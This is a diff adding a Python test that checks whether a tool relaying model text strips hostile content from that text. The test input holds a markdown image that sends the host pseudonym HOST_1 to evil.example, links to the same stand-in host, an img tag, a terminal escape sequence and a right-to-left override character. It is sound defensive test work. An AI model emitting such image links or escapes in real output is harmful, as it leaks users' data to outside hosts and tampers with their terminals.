@@ -50,6 +50,17 @@ def test_pseudonyms_come_back_as_real_names_in_text_and_in_arguments() -> None:
     assert f"{PRIVATE[0]}/rank-3.log:10" in [name for event in heard.of(Text) for name in event.citations]
 
 
+def test_a_model_s_words_can_neither_act_nor_fetch() -> None:
+    text = (
+        "\x1b[2J\u202eLook at its log. ![x](http://evil.example/?q=HOST_1) [see](https://evil.example) <img src=x>\n\n"
+        "[r]: https://evil.example/a\n\nGo on."
+    )
+    heard = ask([{"when": {"contains": "A program has checked"}, "text": "nothing"}, {"text": text}])
+    assert "\x1b" not in heard.text
+    assert "\u202e" not in heard.text
+    assert not re.search(r"!\[|\]\(|\]: ?http|<img", heard.text)
+
+
 def test_a_pseudonym_that_was_made_up_is_marked() -> None:
     heard = ask([{"text": "HOST_77 broke first [E1]."}])
     assert heard.unsupported == ["HOST_77 broke first [E1]."]
